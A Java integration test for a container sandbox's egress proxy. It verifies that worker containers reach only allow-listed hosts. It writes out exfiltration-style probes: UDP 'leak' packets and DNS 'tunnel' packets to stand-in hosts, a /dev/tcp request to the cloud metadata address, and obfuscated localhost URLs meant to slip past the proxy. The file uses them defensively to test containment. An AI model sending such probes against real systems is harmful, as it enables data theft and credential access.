package dev.tandemwork.sysbox.internal.lane;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tandemwork.sysbox.EgressPolicy;
import dev.tandemwork.sysbox.internal.docker.ContainerSpec;
import dev.tandemwork.sysbox.internal.docker.LogSubscription;
import dev.tandemwork.testkit.docker.RealDocker;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What root in a worker reaches. Whoever is not to be reached is there, and answers those who are outside of lanes. */
@RealDocker
final class EgressTest {
    private static final String METADATA = "169.254.169.254";
    private static LaneWorld world;
    private static HostService service;
    private static Lane lane;
    private static Lane otherLane;
    private static String worker;
    private static StandIn forbidden;
    private static StandIn other;
    private static Accesses accesses;
    private static LogSubscription log;

    @BeforeAll
    static void build() throws IOException {
        world = new LaneWorld();
        service = HostService.start();
        Lanes lanes = world.lanes(EgressPolicy.denyAll()
                .allowAt("model.test", EgressPolicy.HOST_GATEWAY, service.port())
                .allow("*.rebind.test", StandIn.PORT)
                .allow("unresolved.invalid"));
        lane = lanes.acquire();
        otherLane = lanes.acquire();
        worker = world.worker("worker", lane);
        forbidden = StandIn.outside(world, "evil.rebind.test").holding(METADATA);
        other = StandIn.in(world, otherLane);
        accesses = new Accesses();
        log = AccessLog.follow(world.host(), lane, accesses);
        world.sh(lane.proxy(), "ip route add " + METADATA + " via " + forbidden.address());
    }

    @AfterAll
    static void clean() {
        log.close();
        service.close();
        world.close();
    }

    @Test
    void standIns_answerThoseWhoMay() {
        String control = world.outside("control", List.of("sleep", "600"));
        world.sh(control, "ip route add " + METADATA + " via " + forbidden.address());

        assertThat(get(control, "http://" + forbidden.address() + ":8000/")).isEqualTo(StandIn.ANSWER);
        assertThat(get(control, "http://" + METADATA + ":8000/")).isEqualTo(StandIn.ANSWER);
        assertThat(get(control, "http://" + forbidden.name() + ":8000/")).isEqualTo(StandIn.ANSWER);
        assertThat(get(control, "http://" + gateway() + ":" + service.port() + "/"))
                .isEqualTo(HostService.ANSWER);
    }

    @Test
    void allowedHost_isReachedThroughTheProxy() {
        assertThat(proxied("http://model.test:" + service.port() + "/")).isEqualTo("200");

        assertThat(accesses.await("GET model.test:" + service.port()).isDenied())
                .isFalse();
    }

    @Test
    void allowedHost_isReachedThroughATunnel() {
        assertThat(tunnelled("http://model.test:" + service.port() + "/")).isEqualTo("200 200");

        assertThat(accesses.await("CONNECT model.test:" + service.port()).isDenied())
                .isFalse();
    }

    @Test
    void nothing_isReachedWithoutTheProxy() throws IOException {
        assertUnreachable(service.address() + ":" + service.port());
        assertUnreachable(gateway() + ":" + service.port());
        assertUnreachable("127.0.0.1:" + service.port());
        assertUnreachable(forbidden.address() + ":8000");
        assertUnreachable(METADATA + ":8000");
        assertUnreachable(other.address() + ":8000");
    }

    @Test
    void proxy_routesNoPacket() throws IOException {
        world.sh(
                worker,
                "for a in " + forbidden.address() + " " + METADATA + " " + other.address() + " " + service.address()
                        + " " + gateway() + "; do ip route replace $a via " + lane.proxyAddress() + "; done");

        // an engine whose rules see the frames of bridges drops them too, and so hides whether the proxy would
        assertThat(world.sh(lane.proxy(), "nft list chain inet tandemwork forward")
                        .stdout())
                .contains("policy drop");
        assertUnreachable(forbidden.address() + ":8000");
        assertUnreachable(METADATA + ":8000");
        assertUnreachable(other.address() + ":8000");
        assertUnreachable(gateway() + ":" + service.port());
        assertUnreachable(service.address() + ":" + service.port());
        world.sh(worker, "echo leak > /dev/udp/" + forbidden.address() + "/" + StandIn.PORT);
        world.sh(lane.proxy(), "echo later > /dev/udp/" + forbidden.address() + "/" + StandIn.PORT);
        assertThat(forbidden.packetsUntil("later")).doesNotContain("leak");
    }

    @Test
    void proxy_refusesWhoeverIsNotAllowed_andTellsIt() throws IOException {
        assertRefused("evil.invalid", 443);
        assertRefused(METADATA, 8000);
        assertRefused(forbidden.address(), StandIn.PORT);
        assertRefused(other.address(), StandIn.PORT);
        assertRefused("127.0.0.1", service.port());
        assertRefused("localhost", service.port());
        assertRefused(service.address(), service.port());
        assertRefused(gateway(), service.port());
        assertRefused("model.test", 22);
        assertRefused(otherLane.proxyAddress(), Lane.PROXY_PORT);
    }

    @Test
    void allowedName_withAClosedAddress_isRefused() {
        assertRefused(forbidden.name(), StandIn.PORT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://[::1]/",
                "http://0x7f.1/",
                "http://2130706433/",
                "http://[::ffff:127.0.0.1]/",
                "ftp://model.test/",
                "http://model.test@evil.invalid/",
                "http://rebind.test:8000/",
                "http://model.test.evil.invalid/"
            })
    void otherSpellings_areRefused(String url) {
        String codes = world.sh(
                        worker,
                        "curl -gs -m 10 -o /dev/null -w '%{http_connect} %{http_code}' -x "
                                + lane.environment().get("TANDEMWORK_PROXY") + " '" + url + "'")
                .stdout();

        assertThat(codes).isIn("403 000", "000 403");
    }

    @Test
    void name_underAWildcard_isAnsweredByAddressOfTheProxyOnly() {
        assertThat(proxied("http://nobody.rebind.test:8000/")).isEqualTo("503");
    }

    @Test
    void kernel_refusesClosedAddresses_evenIfTheProxyWouldAsk() {
        String get = "timeout 5 bash -c 'exec 3<>/dev/tcp/" + METADATA
                + "/8000; printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3'";

        assertThat(world.sh(lane.proxy(), get).stdout()).endsWith(StandIn.ANSWER);
        assertThat(world.sh(lane.proxy(), "setpriv --reuid=proxy --clear-groups " + get)
                        .succeeded())
                .isFalse();
    }

    @Test
    void names_areAskedOfNobodyOutside() {
        StandIn names = StandIn.outside(world, "names");
        String asked = "for n in secret.evil.invalid secret.rebind.test; do timeout 3 getent hosts $n && exit 1; done; "
                + "timeout 2 bash -c 'echo tunnel > /dev/udp/" + names.address() + "/53'; exit 0";

        String badly = world.start(
                "asking",
                LaneWorld.WORKER_IMAGE,
                List.of("sleep", "600"),
                lane.labels(),
                new ContainerSpec.Attachment(lane.name(), Optional.empty(), List.of(names.address())));
        String control = world.start(
                "asks",
                LaneWorld.WORKER_IMAGE,
                List.of("sleep", "600"),
                Map.of(),
                new ContainerSpec.Attachment(world.outer().name(), Optional.empty(), List.of(names.address())));

        assertThat(world.sh(worker, asked).succeeded()).isTrue();
        assertThat(world.sh(badly, asked).succeeded()).isTrue();
        assertThat(names.packets()).isEmpty();
        world.sh(control, "timeout 3 getent hosts control.evil.invalid");
        assertThat(names.packets()).contains("control");
    }

    @Test
    void innerContainers_areBoundByTheLane() throws IOException {
        InnerEngine engine = InnerEngine.start(world, worker, lane).withBox();
        String proxy = lane.proxyAddress() + " " + Lane.PROXY_PORT;

        assertThat(engine.ask(proxy, "http://model.test:" + service.port() + "/"))
                .endsWith(HostService.ANSWER);
        assertThat(engine.ask(forbidden.address() + " 8000", "/")).isEmpty();
        assertThat(engine.ask(service.address() + " " + service.port(), "/")).isEmpty();
        assertThat(engine.ask(METADATA + " 8000", "/")).isEmpty();
        assertThat(engine.ask(proxy, "http://inner.invalid/")).contains("403 Forbidden");
        assertThat(accesses.await("GET inner.invalid:80").isDenied()).isTrue();
    }

    @Test
    void engineOfTheHost_isNotThere() {
        assertThat(world.sh(worker, "grep docker.sock /proc/self/mountinfo").stdout())
                .isEmpty();
    }

    private void assertUnreachable(String target) {
        assertThat(world.sh(worker, "curl -s -m 2 http://" + target + "/").succeeded())
                .as(target)
                .isFalse();
    }

    private void assertRefused(String host, int port) {
        assertThat(tunnelled("http://" + host + ":" + port + "/")).as(host).isEqualTo("403 000");
        assertThat(proxied("http://" + host + ":" + port + "/")).as(host).isEqualTo("403");
        assertThat(accesses.await("CONNECT " + host + ":" + port).text())
                .isEqualTo("egress: denied CONNECT " + host + ":" + port);
        assertThat(accesses.await("GET " + host + ":" + port).isDenied()).isTrue();
    }

    private static String gateway() {
        return world.outer().gateway();
    }

    private static String get(String container, String url) {
        return world.sh(container, "curl -s -m 5 " + url).stdout();
    }

    private static String proxied(String url) {
        return world.sh(
                        worker,
                        "curl -s -m 15 -o /dev/null -w '%{http_code}' -x "
                                + lane.environment().get("TANDEMWORK_PROXY") + " " + url)
                .stdout();
    }

    private static String tunnelled(String url) {
        return world.sh(
                        worker,
                        "curl -s -p -m 15 -o /dev/null -w '%{http_connect} %{http_code}' -x "
                                + lane.environment().get("TANDEMWORK_PROXY") + " " + url)
                .stdout();
    }
}
